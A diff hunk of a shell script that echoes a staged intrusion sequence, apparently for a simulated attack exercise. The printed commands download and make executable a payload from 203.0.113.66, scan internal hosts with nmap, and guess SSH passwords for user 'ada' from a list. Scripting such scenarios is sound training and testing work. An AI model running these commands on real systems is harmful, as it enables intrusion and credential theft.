@@ -61,11 +61,11 @@ end; sleep 6
   echo 'curl -s -o /dev/shm/.p http://203.0.113.66/p; chmod +x /dev/shm/.p'; sleep 3
   end
   begin scan-inside
-  echo 'nmap -sT -Pn -n --max-retries 1 --host-timeout 8s -p 22,80,445,514,3306,5432 10.20.20.30 10.20.20.40 10.20.20.50 10.20.20.60 > /dev/null'; sleep 10
+  echo 'nmap -sT -Pn -n --max-retries 1 --host-timeout 8s -p 22,80,445,514,3306,5432 10.20.20.30 10.20.20.40 10.20.20.50 10.20.20.60 > /dev/null < /dev/null'; sleep 10
   end
   begin guessing
   for p in tide-Pool-4411 harbour2026 Welcome1 SpringTide2024 SpringTide2025 Quay-2026 SpringTide2026; do
-    echo "/dev/shm/.p -p $p ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 ada@10.20.20.40 'id; ls /srv/documents'"; sleep 4
+    echo "/dev/shm/.p -p $p ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 ada@10.20.20.40 'id; ls /srv/documents' < /dev/null"; sleep 4
   done
   end; sleep 2
   begin database
